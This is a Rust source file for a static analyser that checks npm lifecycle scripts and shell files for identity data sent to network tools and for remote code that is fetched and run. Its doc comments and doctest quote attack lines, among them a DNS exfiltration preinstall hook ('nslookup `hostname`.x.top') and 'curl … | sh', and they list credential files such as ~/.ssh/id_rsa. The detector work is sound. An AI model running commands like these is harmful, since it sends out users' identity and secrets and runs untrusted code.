//! Static analysis of shell commands: npm lifecycle scripts (`"preinstall": "nslookup
//! \`hostname\`.x.top"`) and `.sh` files. Nothing is ever executed.
//!
//! [`analyze_shell`] parses the script with a small bounded shell parser (quotes, expansions,
//! `$(…)`/backticks, `<(…)`, pipes, lists, redirections, here-documents, assignments) and
//! follows identity data through variables, pipes, command substitutions and temporary files
//! to the network tools that send it (`curl`, `wget`, `nslookup`/`dig`/`ping`, `nc`,
//! `/dev/tcp`, …). It also reports code fetched and run (`curl … | sh`), the script files a
//! command runs, and code handed inline to interpreters (`node -e "…"`), so that the caller can
//! analyse those with the right front end.
//!
//! What counts as an identity variable, a sensitive file or a cloud metadata host comes from
//! `telltale-knowledge`, completed by shell-only items (`$PWD`, `$INIT_CWD`, `/etc/os-release`).
//!
//! Spans are byte offsets into `script` plus `base`. Facts found in text that is not written
//! verbatim in the script (decoded base64, unescaped strings) point at the command that
//! decodes or runs it.

mod command_line;
mod eval;
mod parse;
mod region;
mod tables;

#[cfg(test)]
mod tests;

use telltale_facts::{
    DataKind, DynamicCodeFact, EndpointFact, FlowFact, Kinds, RegionGuardFact, SourceFact, Span,
};

pub use command_line::{
    finish_marked, hole_marker, hole_var, shell_quote, CommandLine, MAX_COMMAND,
};

/// Bytes of one script that are analysed; anything after is ignored.
pub const MAX_SCRIPT_BYTES: usize = eval::MAX_INPUT;

/// What one shell script does with identity data and code.
#[derive(Debug, Clone, Default)]
pub struct ShellAnalysis {
    /// Identity (and region) data read by commands: `hostname`, `whoami`, `$USER`,
    /// `cat ~/.ssh/id_rsa`, `env`, `git config user.email`, cloud metadata requests, …
    pub sources: Vec<SourceFact>,
    /// Identity data reaching a network tool (HTTP, DNS, socket, other network commands).
    pub flows: Vec<FlowFact>,
    /// Hosts and URLs named in network tool arguments.
    pub endpoints: Vec<EndpointFact>,
    /// Code fetched from the network (or decoded) and run: `curl … | sh`, `eval "$(curl …)"`.
    pub dynamic_code: Vec<DynamicCodeFact>,
    /// Package files the script runs (`node setup.js`, `./install.sh`).
    pub runs: Vec<RunRef>,
    /// Code passed inline to an interpreter (`node -e "…"`, `python -c "…"`).
    pub inline_code: Vec<InlineCode>,
    /// What the script prints: the identity or region data its standard output carries
    /// (`whoami` prints the user name).
    pub output: Kinds,
    /// The network tool whose download the script prints (`curl -s https://…`), if any.
    pub output_from: Option<String>,
    /// Code that runs only for users in (or outside) some countries: a test of `$TZ`,
    /// `$LANG`, a geo-IP answer, with what the code it controls does.
    pub region_guards: Vec<RegionGuardFact>,
}

/// A file the script runs with an interpreter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunRef {
    /// Normalised interpreter: `node` (also ts-node/tsx), `sh` (any shell, `source`, `./x.sh`),
    /// `python` (any version), `perl`, `ruby`.
    pub interpreter: String,
    /// The path as written, relative to the package: leading `./` stripped and a preceding
    /// `cd dir` applied.
    pub path: String,
    /// The command that runs it.
    pub span: Span,
}

/// Code given to an interpreter as an argument, here-document or piped literal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InlineCode {
    /// `node`, `python`, `perl` or `ruby`.
    pub interpreter: String,
    /// The code after shell quote removal.
    pub code: String,
    /// Where the code is. When it is written verbatim in the script (no escapes), the span
    /// covers exactly the code text, so offsets inside `code` can be added to `span.start`;
    /// otherwise it covers the whole word or command.
    pub span: Span,
}

/// Analyses one shell script. `base` is the script's offset inside its file (for a
/// package.json lifecycle script, where the string starts); all spans include it.
///
/// Never panics and runs in time linear in the input (at most [`MAX_SCRIPT_BYTES`] are read).
pub fn analyze_shell(script: &str, base: u32) -> ShellAnalysis {
    eval::analyze(script.as_bytes(), base)
}

/// Analyses a command line that another language's code builds and runs (Python's
/// `os.system(f"nslookup {host}.x.top")`, `subprocess.run(["dig", name])`). The pieces that
/// carry data are written as `${NAME}` and `inputs` gives the data each holds, so the shell
/// analysis follows them to the tools that send them. Every fact points at `span`, the call
/// that runs the command: the text analysed is not written in the file.
///
/// ```
/// use telltale_facts::{DataKind, Kinds, Span};
/// let a = telltale_shell::analyze_command("nslookup ${D}.x.top", Span::new(0, 9), &[("D".into(), Kinds::of(DataKind::Hostname))]);
/// assert_eq!(a.flows.len(), 1);
/// ```
pub fn analyze_command(script: &str, span: Span, inputs: &[(String, Kinds)]) -> ShellAnalysis {
    eval::analyze_command(script.as_bytes(), span, inputs)
}

/// The identity data a file at `path` holds (`~/.ssh/id_rsa`, `/etc/machine-id`,
/// `/sys/class/net/eth0/address`, `~/.pypirc`), and the path as a report shows it. `*` stands
/// for parts not known statically; home-directory spellings (`/home/x`, `/root`) read `~`.
pub fn sensitive_path(path: &str) -> Option<(DataKind, String)> {
    tables::classify_path(&path.replace('*', &tables::DYN.to_string()))
}
